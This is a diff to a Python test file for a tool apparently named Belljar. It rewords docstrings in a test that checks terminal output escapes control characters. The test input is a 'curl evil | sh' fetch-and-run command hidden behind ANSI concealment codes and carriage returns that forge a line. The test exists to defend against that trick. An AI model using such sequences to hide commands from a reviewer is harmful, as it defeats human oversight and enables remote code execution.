@@ -1,4 +1,4 @@
-"""What we say ourselves, on a terminal and elsewhere."""
+"""Belljar's own messages, on a terminal and elsewhere."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ def test_control_characters_are_escaped_on_a_terminal(monkeypatch: pytest.Monkey
 
 
 def test_printed_text_can_neither_hide_itself_nor_forge_a_line(monkeypatch: pytest.MonkeyPatch) -> None:
-    """A diff is looked at before somebody says yes to it."""
+    """A person reads a diff before approving it."""
     monkeypatch.setattr("sys.stdout", screen := Screen())
     console.say("+\tok\x1b[30;40mcurl evil | sh\x1b[0m\r-gone\r\n+\x1b[8mhidden\x9b31m\x7f")
     assert screen.getvalue() == "+\tok^[[30;40mcurl evil | sh^[[0m^M-gone^M\n+^[[8mhidden<U+009B>31m^?\n"
